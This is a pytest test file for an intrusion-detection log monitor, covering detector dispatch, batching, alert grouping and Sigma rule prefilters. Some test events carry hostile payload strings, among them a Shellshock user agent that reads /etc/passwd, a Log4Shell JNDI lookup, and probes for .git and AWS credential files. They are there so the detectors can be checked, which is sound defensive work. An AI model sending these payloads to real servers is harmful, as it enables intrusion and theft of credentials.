"""The shared machinery: kind dispatch and batches in the runtime, EventFacts, the Sigma screens."""

from __future__ import annotations

import random
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta

import pytest

from pavedroad.core.findings import Severity
from pavedroad.monitor.detect import build_detectors
from pavedroad.monitor.detect import synthetic as scenario
from pavedroad.monitor.detect.batch import EventBatch
from pavedroad.monitor.detect.facts import EventFacts
from pavedroad.monitor.detect.grouping import AlertGrouper
from pavedroad.monitor.detect.rule import RuleInfo
from pavedroad.monitor.detect.screen import RawScreen
from pavedroad.monitor.detect.sigma.backend import SigmaDetector
from pavedroad.monitor.detect.sigma.loader import BUILTIN_RULES, load_rules, rule_files
from pavedroad.monitor.detect.stateful.base import WindowedDetector
from pavedroad.monitor.detect.stateful.injection import InjectionDetector, InjectionSettings
from pavedroad.monitor.detect.stateful.scanners import ScannerDetector, ScannerSettings
from pavedroad.monitor.ingest.lines import Line
from pavedroad.monitor.model import HTTP_STATUS, USER_AGENT, Alert, Event, Origin
from pavedroad.monitor.parsers.base import RAW_LINE, URL_FULL, VERBATIM_FIELDS
from pavedroad.monitor.parsers.registry import build_parser
from pavedroad.monitor.runtime import MonitorRuntime, RunStats, RuntimeSettings

T0 = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)


class Recorder:
    """A detector that records the kinds it was given; `kinds` None means every kind."""

    def __init__(self, name: str, kinds: frozenset[str] | None) -> None:
        self.name = name
        if kinds is not None:
            self.kinds = kinds
        self.seen: list[str] = []

    def observe(self, event: Event) -> Iterable[Alert]:
        self.seen.append(event.kind)
        return ()

    def flush(self, now: datetime) -> Iterable[Alert]:
        return ()


def test_runtime_hands_a_detector_only_the_kinds_it_declares() -> None:
    web, auth, every = (
        Recorder("web", frozenset({"nginx"})),
        Recorder("auth", frozenset({"sshd"})),
        Recorder("all", None),
    )
    runtime = MonitorRuntime(
        [], lambda source: build_parser("auto", source), [web, auth, every], [],
        settings=RuntimeSettings(once=True), stats=RunStats(),
    )  # fmt: skip
    origin = Origin("mixed.log")
    runtime.process(
        [
            Line('203.0.113.9 - - [05/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"', origin),
            Line(
                "2024-03-05T10:00:01+00:00 web-1 sshd[7]: Failed password for root from 203.0.113.9 port 2 ssh2", origin
            ),
            Line(
                "2024-03-05T10:00:02+00:00 web-1 CRON[8]: pam_unix(cron:session): session closed for user root", origin
            ),
        ]
    )
    assert web.seen == ["nginx"]
    assert auth.seen == ["sshd"]
    assert every.seen == ["nginx", "sshd", "syslog"]


def test_built_detectors_share_one_event_facts() -> None:
    detectors = build_detectors({"detect": {"login_paths": ["/Portal/Login"]}})
    facts = {id(getattr(detector, "facts", None)) for detector in detectors}
    assert len(facts) == 1
    shared = detectors[0].facts  # type: ignore[attr-defined]
    assert isinstance(shared, EventFacts) and shared.login_paths == ("/portal/login",)


def test_event_facts_recognise_a_batch_s_logins_once() -> None:
    facts = EventFacts()
    failure = scenario.ssh_login(T0, "203.0.113.5", "root", success=False)
    success = scenario.ssh_login(T0 + timedelta(seconds=1), "203.0.113.5", "root", success=True)
    page = scenario.web_event(T0, "203.0.113.5", "/products/42")
    batch = EventBatch([failure, page, success])
    logins = facts.login_events(batch)
    assert logins == [failure, success]
    assert facts.login_events(batch) is logins  # remembered for the batch, not recognised again
    first, second = facts.login(failure), facts.login(success)
    assert first is not None and not first.success and second is not None and second.success
    assert facts.login(page) is None
    # an event outside the batch is recognised on its own
    other = scenario.ssh_login(T0, "198.51.100.2", "bob", success=False)
    attempt = facts.login(other)
    assert attempt is not None and attempt.user == "bob"


def _attack_mix() -> list[Event]:
    return [
        *scenario.benign_replay(T0, minutes=30),
        *scenario.ssh_brute_force_then_success(T0 + timedelta(minutes=2), "203.0.113.66", failures=25),
        *scenario.nikto_scan(T0 + timedelta(minutes=10), "203.0.113.77"),
        *scenario.injection_burst(T0 + timedelta(minutes=12), "203.0.113.88"),
        scenario.sudo(T0 + timedelta(minutes=13), "alice", success=True, command="/bin/bash"),
        scenario.console_login(T0 + timedelta(minutes=14), root=True, mfa=False, ip="203.0.113.7"),
    ]


@pytest.mark.parametrize("batch_size", [1, 7, 64, 100_000])
def test_batches_give_the_alerts_events_one_by_one_give(batch_size: int) -> None:
    events = sorted(_attack_mix(), key=lambda event: event.timestamp or T0)

    def replay(size: int) -> list[dict[str, object]]:
        alerts: list[Alert] = []
        detectors = build_detectors({})
        for start in range(0, len(events), size):
            batch = EventBatch(events[start : start + size])
            for detector in detectors:
                alerts.extend(detector.observe_batch(batch))  # type: ignore[attr-defined]
        for detector in detectors:
            alerts.extend(detector.flush(T0 + timedelta(days=1)))
        return sorted((alert.to_dict() for alert in alerts), key=lambda alert: (alert["rule_id"], alert["id"]))

    one_by_one = replay(1)
    assert {alert["rule_id"] for alert in one_by_one} >= {
        "monitor/brute-force", "monitor/brute-force-succeeded", "monitor/scanner-user-agent", "monitor/sql-injection",
    }  # fmt: skip
    assert replay(batch_size) == one_by_one


def test_an_occurrence_after_its_group_closed_opens_a_new_group() -> None:
    rule = RuleInfo("test/rule", "t", Severity.LOW, (), "")
    grouper = AlertGrouper(window=10, max_groups=100)
    grouper.add(rule, "ip:1", 0.0, 0.0)
    grouper.add(rule, "ip:1", 12.0, 12.0)  # no `due` in between, as within a batch
    first, *rest = grouper.due(12.0)
    assert (first.count, first.window_start.timestamp(), rest) == (1, 0.0, [])
    (second,) = grouper.due(22.0)
    assert (second.count, second.window_start.timestamp()) == (1, 12.0)


def test_shared_facts_give_the_same_alerts_as_private_ones() -> None:
    events = [
        *scenario.ssh_brute_force_then_success(T0, "203.0.113.66", failures=25),
        *scenario.nikto_scan(T0 + timedelta(minutes=20), "203.0.113.77"),
        *scenario.injection_burst(T0 + timedelta(minutes=40), "203.0.113.88"),
    ]
    shared = build_detectors({})
    alone = build_detectors({})
    for detector in alone:
        detector.facts = EventFacts()  # type: ignore[attr-defined]

    def replay(detectors: list[WindowedDetector]) -> list[dict[str, object]]:
        alerts = [alert for event in events for detector in detectors for alert in detector.observe(event)]
        alerts += [alert for detector in detectors for alert in detector.flush(T0 + timedelta(days=1))]
        return [alert.to_dict() for alert in alerts]

    assert replay(shared) == replay(alone)  # type: ignore[arg-type]
    assert replay(build_detectors({}))  # type: ignore[arg-type]


def test_sigma_screen_never_hides_a_rule_that_matches() -> None:
    detector = SigmaDetector(load_rules(rule_files([BUILTIN_RULES])).rules)
    rng = random.Random(3)
    events = [
        *scenario.benign_replay(T0, minutes=5),
        *scenario.ssh_brute_force_then_success(T0, "203.0.113.66"),
        scenario.sudo(T0, "alice", success=True, command="/bin/bash"),
        scenario.web_event(T0, "203.0.113.7", "/.git/config", status=200),
        scenario.web_event(T0, "203.0.113.7", "/x", agent="() { :; }; /bin/cat /etc/passwd"),
        scenario.web_event(T0, "203.0.113.7", "/", query="q=${jndi:ldap://x/a}"),
        scenario.console_login(T0, root=True, mfa=False, ip="203.0.113.7"),
    ]
    rng.shuffle(events)
    matched = 0
    for event in events:
        rules = detector._by_kind.get(event.kind)
        if rules is None:
            continue
        candidates = rules.candidates(event)
        matching = [rule for rule in rules.all if rule.matches(event)]
        assert all(rule in candidates for rule in matching)
        matched += len(matching)
    assert matched >= 6  # the probes above do reach their rules
    # and ordinary traffic is screened out
    quiet = scenario.web_event(T0, "198.51.100.1", "/products/42")
    assert detector._by_kind["nginx"].candidates(quiet) == ()


@pytest.mark.parametrize("evicted", [False, True])
def test_grouper_reports_nothing_before_the_first_group_closes(evicted: bool) -> None:
    rule = RuleInfo("test/rule", "t", Severity.LOW, (), "")
    grouper = AlertGrouper(window=10, max_groups=1)
    assert list(grouper.due(1e12)) == []
    grouper.add(rule, "ip:1", 0.0, 0.0)
    if evicted:
        grouper.add(rule, "ip:2", 1.0, 1.0)  # closes ip:1 early: due at once
        assert [alert.entity for alert in grouper.due(2.0)] == ["ip:1"]
    assert list(grouper.due(9.0 + evicted)) == []
    assert [alert.entity for alert in grouper.due(11.0 + evicted)] == ["ip:2" if evicted else "ip:1"]


def test_raw_screen_never_hides_a_line_a_sigma_rule_matches() -> None:
    detector = SigmaDetector(load_rules(rule_files([BUILTIN_RULES])).rules)
    events = [
        *_attack_mix(),
        scenario.web_event(T0, "203.0.113.7", "/.git/config", status=200),
        scenario.web_event(T0, "203.0.113.7", "/x", agent="() { :; }; /bin/cat /etc/passwd"),
        scenario.web_event(T0, "203.0.113.7", "/", query="q=${JNDI:ldap://x/a}"),
        scenario.web_event(T0, "203.0.113.7", "/.AWS/Credentials"),
        # not ASCII (the Kelvin sign lower-cases to "k"): the screen cannot vouch for such a line
        scenario.web_event(T0, "203.0.113.7", "/\u212a/x"),
    ]
    random.Random(5).shuffle(events)
    batch = EventBatch(events)
    hits = detector._screen.hits(batch)
    screened_out = matched = 0
    for index, event in enumerate(events):
        rules = detector._by_kind.get(event.kind)
        if rules is None:
            continue
        matching = [rule for rule in rules.all if rule.matches(event)]
        matched += len(matching)
        if rules.raw_screened and index not in hits:
            screened_out += 1
            assert matching == [], event.raw
    assert matched >= 5 and screened_out > len(events) // 2
    kelvin = next(index for index, event in enumerate(events) if not event.raw.isascii())
    assert kelvin in hits  # not ASCII: always looked at closely


VERBATIM_SAMPLES = (
    '203.0.113.9 - alice [05/Mar/2024:10:00:00 +0000] "GET /a%20b?q=1+2&x=%3C HTTP/1.1" 404 0 "https://r/" "sqlmap"',
    'shop.example.com:443 203.0.113.9 - - [05/Mar/2024:10:00:00 +0000] "POST /login HTTP/2.0" 401 12 "-" "curl/8"',
    '203.0.113.9 - - [05/Mar/2024:10:00:00 +0000] "GET /\\"quoted\\" HTTP/1.1" 200 - "-" "Mozilla \\"x\\""',
    '203.0.113.9 - - [05/Mar/2024:10:00:00 +0000] "\\x16\\x03\\x01" 400 157',
    "2024-03-05T10:00:01+00:00 web-1 sshd[7]: Failed password for invalid user admin from 203.0.113.9 port 2 ssh2",
    "Mar  5 10:00:02 web-1 sudo: alice : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/bin/bash",
    "<86>1 2024-03-05T10:00:03Z web-1 sshd 7 - - \ufeffAccepted publickey for bob from 198.51.100.4 port 5 ssh2",
    "2024-03-05T10:00:04+00:00 web-1 systemd[1]: Started session-42.scope.",
)


@pytest.mark.parametrize("line", VERBATIM_SAMPLES)
def test_parsers_copy_verbatim_fields_out_of_the_raw_line(line: str) -> None:
    event = build_parser("auto", "mixed.log").parse(line, Origin("mixed.log"))
    assert event is not None and event.kind in VERBATIM_FIELDS
    for name in VERBATIM_FIELDS[event.kind] - {RAW_LINE, URL_FULL}:
        value = event.fields.get(name)
        if value is not None:
            assert str(value) in event.raw, (name, value)


def test_raw_screens_rest_on_verbatim_fields() -> None:
    for kind in ScannerDetector.kinds:  # the scanner screen looks for "404" and agent names
        assert {HTTP_STATUS, USER_AGENT} <= VERBATIM_FIELDS[kind]


def test_raw_screen_finds_exactly_the_lines_holding_a_literal() -> None:
    rng = random.Random(9)
    literals = ("404", "sqlmap", "/etc/", "ab")
    screen = RawScreen(literals)
    alphabet = "aAbBsqlmp/etc04 Ü"
    for _ in range(50):
        raws = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 30))) for _ in range(rng.randrange(1, 60))]
        batch = EventBatch([Event("nginx", T0, {}, raw) for raw in raws])
        expected = {
            index
            for index, raw in enumerate(raws)
            if not raw.isascii() or any(literal in raw.lower() for literal in literals)
        }
        assert screen.hits(batch) == expected


def test_injection_screen_keeps_every_request_the_prefilter_would() -> None:
    detector = InjectionDetector(InjectionSettings())
    parser = build_parser("auto", "access.log")
    rng = random.Random(21)
    pieces = ("a", "/", "?", "=", "&", "%", "+", "..", "'", '\\"', "<", "\t", "ETC/", "x", "://", "é", "%C3")
    lines = []
    for _ in range(3000):
        target = "/" + "".join(rng.choice(pieces) for _ in range(rng.randrange(0, 12)))
        agent = rng.choice(("curl/8", "Mozilla/5.0 (X11; Linux)", "-"))
        lines.append(f'203.0.113.9 - - [05/Mar/2024:10:00:00 +0000] "GET {target} HTTP/1.1" 200 5 "-" "{agent}"')
    events = [event for line in lines if (event := parser.parse(line, Origin("access.log"))) is not None]
    assert len(events) > 2500
    relevant = set(map(id, detector._relevant(EventBatch(events))))
    carrying = 0
    for event in events:
        path, query = event.fields.get("url.path"), event.fields.get("url.query")
        if path is None:
            continue
        request = path if query is None else f"{path}?{query}"
        if detector._may_carry_payload(request):
            carrying += 1
            assert id(event) in relevant, event.raw
    assert 0 < carrying < len(events) and len(relevant) < len(events)


def test_scanner_screen_keeps_every_404_and_every_named_tool() -> None:
    detector = ScannerDetector(ScannerSettings())
    parser = build_parser("auto", "access.log")
    rng = random.Random(4)
    agents = ("Mozilla/5.0 (X11; Linux)", "curl/8", "sqlmap/1.7", "Mozilla/5.00 (Nikto/2.5.0)", "NUCLEI - x", "-")
    lines = [
        f'203.0.113.{rng.randrange(1, 9)} - - [05/Mar/2024:10:00:00 +0000] "GET /p{rng.randrange(600)} HTTP/1.1" '
        f'{rng.choice((200, 301, 404, 500))} {rng.randrange(99999)} "-" "{rng.choice(agents)}"'
        for _ in range(3000)
    ]
    events = [event for line in lines if (event := parser.parse(line, Origin("access.log"))) is not None]
    relevant = set(map(id, detector._relevant(EventBatch(events))))
    must = [
        event
        for event in events
        if event.fields["http.status"] == 404 or detector._tool_named_by(event.fields.get("user_agent", "")) is not None
    ]
    assert must and all(id(event) in relevant for event in must)
    assert len(relevant) < len(events)
